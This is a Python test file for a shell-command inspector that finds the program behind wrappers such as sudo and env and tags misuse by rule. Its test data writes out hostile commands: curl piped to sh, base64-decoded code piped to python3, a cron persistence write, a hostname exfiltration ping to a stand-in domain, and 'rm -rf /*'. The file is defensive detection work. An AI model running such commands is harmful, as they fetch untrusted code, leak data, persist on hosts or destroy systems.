"""Programs behind wrappers, and what they are misused for."""

from __future__ import annotations

import pytest

from bawn.inspection.arguments.programs import misused, program
from bawn.inspection.arguments.shell import read


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("sudo -E cat x", "cat"),
        ("env A=1 B=2 cat x", "cat"),
        ("/usr/bin/cat x", "cat"),
        ("timeout 5 nohup cat x", "cat"),
        ("sudo", "sudo"),
        ("CAT.EXE x", "cat"),
    ],
)
def test_the_program_behind_wrappers_counts(text: str, name: str) -> None:
    assert program(read(text).pipelines[0][0])[0] == name


@pytest.mark.parametrize(
    ("text", "rules"),
    [("curl x | sh", {"command-download-run"}), ("curl x | sh script.sh", set()), ("base64 -d x | python3", {"command-decoded-run"}), ("cat x | tee /etc/cron.d/y", {"command-persistence"}),
     ("ping $(hostname).x.example", {"command-exfiltration"}), ("rm -rf ./build", set()), ("rm -rf /*", {"command-destructive"}), ("ls | sort", set())],
)  # fmt: skip
def test_misuse_is_told_by_rule(text: str, rules: set[str]) -> None:
    assert set(misused(read(text).pipelines[0])) == rules
